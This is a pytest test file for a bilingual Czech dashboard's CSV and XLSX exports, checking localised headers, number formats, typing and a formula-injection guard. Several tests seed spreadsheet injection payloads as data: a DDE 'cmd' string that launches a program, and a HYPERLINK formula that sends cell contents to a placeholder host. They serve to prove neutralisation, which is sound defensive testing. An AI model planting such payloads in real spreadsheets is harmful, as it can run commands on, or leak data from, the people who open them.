"""Every export of every page, in Czech and English, read back as a spreadsheet would read it.

CSV files through the csv module, XLSX workbooks through openpyxl: headers and words in
the page's language, values rounded as the page shows them, numbers in the language's
notation (CSV) or typed and formatted (XLSX), Czech and English file names. And the one
formula guard on every CSV and XLSX the product serves, the open-data API's included.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterator
from decimal import Decimal
from urllib.parse import quote

import dash
import openpyxl
import pandas as pd
import pytest
import sqlalchemy as sa

from dashboard import formatting, plan_review
from dashboard.app import create_app
from dashboard.config import Settings
from dashboard.db import EXTENSION_KEY, get_db
from dashboard.export_columns import EXPORTS
from dashboard.exports import DATASETS, render
from dashboard.spreadsheets import (
    BOOL,
    COUNT,
    DATE,
    MONEY,
    NUMBER,
    PERCENT,
    STATUS,
    YEAR,
    YES_NO,
    Column,
    to_csv,
    to_xlsx,
)
from domain.cells import neutralise
from etl import schema as s
from etl.template import LISTS_SHEET, build_template

OSTRAVA = "CZ.03.2.63/0.0/0.0/16_063/0006590"
DEMO = "local:demo-ukazkov"  # the demo project: drawdown and achieved values
DEMO_PLAN = "demo-ukazkov-kp"  # the demo plan: evaluations, changes and costs
#: A query for each export that gives it rows in the seeded database.
QUERIES = {
    "overview-indicators": {}, "indicator-progress": {"kod": "60000"}, "projects": {},
    "project-budget": {"id": OSTRAVA}, "project-drawdown": {"id": DEMO},
    "project-indicators": {"id": DEMO}, "project-indicator-values": {"id": DEMO, "kod": "60000"},
    "project-activities": {"id": OSTRAVA}, "project-target-groups": {"id": OSTRAVA},
    "project-planning-bodies": {"id": OSTRAVA}, "orp-comparison": {"kraj": "CZ080"},
    "orp-plan-coverage": {"kraj": "CZ080"}, "orp-projects": {"kod": "8119"},
    "orp-plans": {"kod": "7113"}, "target-groups": {},
    "target-groups-status": {"plan": "demo-prikladov-kp"},
    "target-groups-mapping": {"plan": DEMO_PLAN}, "plan-grid": {"plan": DEMO_PLAN},
    "plan-changes": {"plan": DEMO_PLAN}, "plan-costs": {"plan": DEMO_PLAN},
    "plan-history": {"plan": DEMO_PLAN},
    "data-loads": {}, "data-files": {}, "data-problems": {},
}
STEERING_ONLY = {"plan-internal"}  # checked through the writer below (the route needs a sign-in)
EMPTY_IN_SEED = {"data-problems"}  # the seed loads without a problem (the demo approves its years)
CSV_PATTERNS = {
    "cs": {PERCENT: r"-?\d+(,\d+)? %", DATE: r"\d{1,2}\. \d{1,2}\. \d{4}",
           NUMBER: r"-?\d+(,\d+)?", COUNT: r"-?\d+", YEAR: r"\d{4}"},
    "en": {PERCENT: r"-?\d+(\.\d+)?%", DATE: r"\d{4}-\d\d-\d\d",
           NUMBER: r"-?\d+(\.\d+)?", COUNT: r"-?\d+", YEAR: r"\d{4}"},
}


@pytest.fixture
def app(seeded_db_url: str) -> Iterator[dash.Dash]:
    app = create_app(Settings(database_url=seeded_db_url))
    yield app
    app.server.extensions[EXTENSION_KEY].engine.dispose()


def _url(name: str, fmt: str, lang: str) -> str:
    query = "&".join(f"{k}={quote(v, safe='')}" for k, v in {**QUERIES[name], "lang": lang}.items())
    return f"/export/{name}.{fmt}?{query}"


def _declared(name: str, header: list[str], lang: str) -> list[Column]:
    """The declared columns behind a header row (the plan grid's years are the page's own)."""
    by_header = {c.header(lang): c for c in EXPORTS[name].columns}
    assert all(h in by_header or (EXPORTS[name].rest and h.isdigit()) for h in header), header
    return [by_header.get(h) or Column(h, h, h, EXPORTS[name].rest) for h in header]


def _money_pattern(column: Column, lang: str) -> str:
    """Money in a CSV: no grouping, the places of its context (a plan's costs in whole koruny)."""
    places = formatting.MONEY_DIGITS[column.context]
    return r"-?\d+" + ((r"," if lang == "cs" else r"\.") + r"\d" * places if places else "")


def _words(column: Column, lang: str) -> set[str]:
    pairs = YES_NO.values() if column.kind == BOOL else (column.words or {}).values()
    return {Column.word(pair, lang) for pair in pairs}


def _check_csv(name: str, body: bytes, lang: str) -> list[dict[str, str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, so that Excel reads the accents"
    reader = csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";" if lang == "cs" else ",")
    header, *rows = list(reader)
    columns = _declared(name, header, lang)
    assert header[:2] == [c.header(lang) for c in columns[:2]]
    other = "en" if lang == "cs" else "cs"
    for column, values in zip(columns, zip(*rows, strict=True) if rows else [], strict=False):
        assert column.header(lang) != column.key or column.key.isdigit() \
            or column.header(other) == column.key, f"{name}: {column.key} has a code name as header"
        for value in values:
            if value == "":
                continue
            if column.kind == MONEY:
                assert re.fullmatch(_money_pattern(column, lang), value), (name, column.key, value)
            if column.kind in CSV_PATTERNS[lang]:
                assert re.fullmatch(CSV_PATTERNS[lang][column.kind], value), (name, column.key, value)
            if column.kind in (BOOL, STATUS):
                assert value in _words(column, lang), (name, column.key, value)
    return [dict(zip(header, row, strict=True)) for row in rows]


def _check_xlsx(name: str, body: bytes, lang: str) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    assert sheet.freeze_panes == "A2"
    cells = list(sheet.iter_rows())
    header = [c.value for c in cells[0]]
    assert all(c.font.bold for c in cells[0])
    columns = _declared(name, header, lang)
    for row in cells[1:]:
        for column, cell in zip(columns, row, strict=True):
            if cell.value is None:
                continue
            if column.kind == MONEY:
                assert isinstance(cell.value, (int, float)), (name, column.key, cell.value)
                assert ("Kč" if lang == "cs" else "CZK") in cell.number_format
                assert ("0.00" in cell.number_format) == bool(formatting.MONEY_DIGITS[column.context])
            elif column.kind == PERCENT:
                assert isinstance(cell.value, (int, float)) and "%" in cell.number_format
            elif column.kind == DATE:
                assert cell.is_date and isinstance(cell.value, dt.datetime), (name, column.key)
            elif column.kind in (COUNT, YEAR, NUMBER):
                assert isinstance(cell.value, (int, float)), (name, column.key, cell.value)
            elif column.kind in (BOOL, STATUS):
                assert cell.value in _words(column, lang), (name, column.key, cell.value)
            else:
                assert cell.data_type == "s", (name, column.key, cell.value)
    widths = [sheet.column_dimensions[c.column_letter].width for c in cells[0]]
    assert all(8 <= w <= 62 for w in widths), widths
    return [[c.value for c in row] for row in cells[1:]]


def test_xsp001_every_page_export_is_declared_and_exercised(app) -> None:  # noqa: ANN001
    assert DATASETS, "the pages register their exports when the app is made"
    assert set(DATASETS) == set(EXPORTS)
    assert set(DATASETS) == set(QUERIES) | STEERING_ONLY
    for export in EXPORTS.values():
        cs, en = export.file_name("cs", "csv"), export.file_name("en", "csv")
        assert re.fullmatch(r"[a-z0-9-]+\.csv", cs) and re.fullmatch(r"[a-z0-9-]+\.csv", en)
        assert cs != en, cs
    assert EXPORTS["projects"].file_name("cs", "xlsx") == "projekty.xlsx"
    assert EXPORTS["plan-internal"].file_name("cs", "csv", not_public=True).startswith("neverejne-")


@pytest.mark.parametrize("lang", ["cs", "en"])
def test_xsp002_every_export_in_both_languages(app, lang: str) -> None:  # noqa: ANN001
    client = app.server.test_client()
    for name in sorted(QUERIES):
        for fmt in ("csv", "xlsx"):
            response = client.get(_url(name, fmt, lang))
            assert response.status_code == 200, name
            assert response.headers["Content-Disposition"] == \
                f'attachment; filename="{EXPORTS[name].file_name(lang, fmt)}"'
            rows = _check_csv(name, response.data, lang) if fmt == "csv" else \
                _check_xlsx(name, response.data, lang)
            assert rows or name in EMPTY_IN_SEED, f"{name} exported no rows"
        assert response.headers["Content-Type"].startswith("application/vnd.openxml")


def test_xsp003_czech_words_rounding_and_notation(app) -> None:  # noqa: ANN001
    client = app.server.test_client()
    rows = _check_csv("overview-indicators",
                      client.get(_url("overview-indicators", "csv", "cs")).data, "cs")
    running = next(r for r in rows if r["Kód indikátoru"] == "60000"
                   and r["Registrační číslo / klíč"] == "local:demo-vzorov")
    # the page says "dosáhne asi 27,2 ze 40", 25 %, ohroženo; the file said 27.154…, at_risk
    assert running["Projekce ke konci projektu"] == "27,2" and running["Cílová hodnota"] == "40"
    assert running["Plnění cíle"] == "25 %" and running["Stav"] == "ohroženo"
    assert running["Zahájení"] == "1. 1. 2024" and running["Ukázková data (DEMO)"] == "ano"
    # a finished project's indicator has a result, in words, and no projection
    finished = next(r for r in rows if r["Kód indikátoru"] == "60000"
                    and r["Registrační číslo / klíč"] == "local:demo-ukazkov")
    assert finished["Stav"] == "nesplněno" and finished["Projekce ke konci projektu"] == ""
    projects = _check_csv("projects", client.get(_url("projects", "csv", "cs")).data, "cs")
    row = next(r for r in projects if r["Registrační číslo / klíč"] == OSTRAVA)
    assert row["Celkové způsobilé výdaje"] == "3648425,00" and row["Stav"] == "ukončen"
    english = _check_csv("projects", client.get(_url("projects", "csv", "en")).data, "en")
    row = next(r for r in english if r["Registration number / key"] == OSTRAVA)
    assert row["Total eligible expenditure"] == "3648425.00" and row["Status"] == "finished"
    assert row["Start"] == "2017-11-01" and row["Shares derived"] in ("yes", "no")
    budget = _check_csv("project-budget", client.get(_url("project-budget", "csv", "en")).data, "en")
    assert [r["Funding source"] for r in budget][:2] == ["EU (ESF)", "State budget"]
    assert budget[0]["Share"] == "85%"


def test_xsp004_xlsx_cells_are_typed_and_formatted(app) -> None:  # noqa: ANN001
    client = app.server.test_client()
    body = client.get(_url("projects", "xlsx", "cs")).data
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == OSTRAVA)
    money = row[header.index("Celkové způsobilé výdaje")]
    assert money.value == 3648425 and money.number_format == '#,##0.00\\ "Kč"'
    start = row[header.index("Zahájení")]
    assert start.value == dt.datetime(2017, 11, 1) and start.number_format == "d. m. yyyy"
    body = client.get(_url("overview-indicators", "xlsx", "en")).data
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    header = [c.value for c in sheet[1]]
    rows = {(r[header.index("Registration number / key")].value, r[header.index("Indicator code")].value): r
            for r in sheet.iter_rows(min_row=2)}
    row = rows["local:demo-vzorov", "60000"]
    share = row[header.index("Share of target")]
    assert share.value == 0.25 and share.number_format == "0%"
    assert row[header.index("Projection at the project's end")].value == 27.2
    assert row[header.index("Status")].value == "at risk"
    assert rows["local:demo-ukazkov", "60000"][header.index("Status")].value == "missed"


@pytest.mark.parametrize("lang", ["cs", "en"])
def test_xsp005_steering_export_through_the_same_writer(app, lang: str) -> None:  # noqa: ANN001
    with app.server.test_request_context("/"):
        review = plan_review.load_review(get_db(), {"plan": DEMO_PLAN, "rok": "2021"}, True)
        frame = plan_review.internal_frame(review, lang)
    assert len(frame) > 0
    _check_csv("plan-internal", render("plan-internal", frame, "csv", lang), lang)
    _check_xlsx("plan-internal", render("plan-internal", frame, "xlsx", lang), lang)


@pytest.mark.parametrize("text", [
    "=1+1", "+420", "-2", "@SUM(A1)", "\tx", "\rx", "＝1+1", "＋cmd", "－2", "＠SUM(A1)",
    '=HYPERLINK("http://x"&A1,"Klik")', "+cmd|' /C calc'!A0"])
def test_xsp006_formula_text_is_neutralised(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert neutralise("Ostrava") == "Ostrava" and neutralise(-2) == -2


def test_xsp007_negative_numbers_stay_numbers() -> None:
    frame = pd.DataFrame({"name": ["=1+1", "-x"], "amount": [Decimal("-5.5"), Decimal("3")]})
    columns = [Column("name", "Název", "Name"), Column("amount", "Částka", "Amount", MONEY)]
    text = to_csv(frame, columns, "cs").decode("utf-8-sig")
    assert text.splitlines()[1:] == ["'=1+1;-5,50", "'-x;3,00"]
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(frame, columns, "cs"))).active
    assert sheet["B2"].value == -5.5 and sheet["B2"].data_type == "n"
    assert sheet["A2"].value == "'=1+1" and sheet["A2"].data_type == "s"


HOSTILE = ['=HYPERLINK("http://x"&A1,"Klik")', "+cmd|' /C calc'!A0"]


def test_xsp008_api_csv_and_exports_neutralise_formulas(app, seeded_engine: sa.Engine) -> None:  # noqa: ANN001
    with seeded_engine.begin() as conn:
        keys = list(conn.scalars(sa.select(s.project.c.key).order_by(s.project.c.key).limit(2)))
        for key, name in zip(keys, HOSTILE, strict=True):
            conn.execute(s.project.update().where(s.project.c.key == key).values(name=name))
    client = app.server.test_client()
    response = client.get("/api/v1/projects?format=csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    names = [r["name"] for r in csv.DictReader(io.StringIO(response.data.decode("utf-8")))]
    assert {"'" + h for h in HOSTILE} <= set(names) and not set(HOSTILE) & set(names)
    assert set(HOSTILE) <= {r["name"] for r in client.get("/api/v1/projects").json}  # JSON keeps the text
    for lang in ("cs", "en"):
        rows = _check_csv("projects", client.get(_url("projects", "csv", lang)).data, lang)
        header = EXPORTS["projects"].columns[2].header(lang)
        assert {"'" + h for h in HOSTILE} <= {r[header] for r in rows}
        book = openpyxl.load_workbook(io.BytesIO(client.get(_url("projects", "xlsx", lang)).data))
        cells = [c for row in book.active.iter_rows() for c in row]
        assert not [c for c in cells if c.data_type == "f"]
        assert {"'" + h for h in HOSTILE} <= {c.value for c in cells}
    export = client.get(_url("projects", "csv", "cs"))
    assert export.headers["Content-Type"] == "text/csv; charset=utf-8"


def test_xsp009_template_drop_downs_are_never_formulas(seeded_engine: sa.Engine) -> None:
    with seeded_engine.begin() as conn:
        first = conn.execute(sa.select(s.measure_status.c.code).limit(1)).scalar_one()
        conn.execute(s.measure_status.update().where(s.measure_status.c.code == first)
                     .values(name="=cmd|' /C calc'!A0"))
    book = build_template(seeded_engine, ["opatreni"])
    values = [c for row in book[LISTS_SHEET].iter_rows() for c in row if c.value]
    assert "'=cmd|' /C calc'!A0" in {c.value for c in values}
    assert not [c for c in values if c.data_type == "f"]


def test_xsp010_export_links_carry_the_page_language() -> None:
    from dashboard.components.common import export_links

    links = export_links("projects", "en", {"kraj": "CZ080"}).children
    assert links[1].href == "/export/projects.csv?kraj=CZ080&lang=en"
    assert links[1].download == "projects.csv"
    assert export_links("projects", "cs").children[2].download == "projekty.xlsx"


def test_xsp011_meeting_workbook_money_in_the_same_format(app) -> None:  # noqa: ANN001
    body = app.server.test_client().get(f"/export/plan-meeting.xlsx?plan={DEMO_PLAN}&rok=2021").data
    sheet = openpyxl.load_workbook(io.BytesIO(body)).worksheets[2]
    # a plan's costs in whole koruny, as the plan page and the plan-costs export show them
    assert sheet["C2"].number_format == '#,##0\\ "Kč"' and isinstance(sheet["C2"].value, (int, float))
    assert sheet["F2"].number_format == "0\\ %"
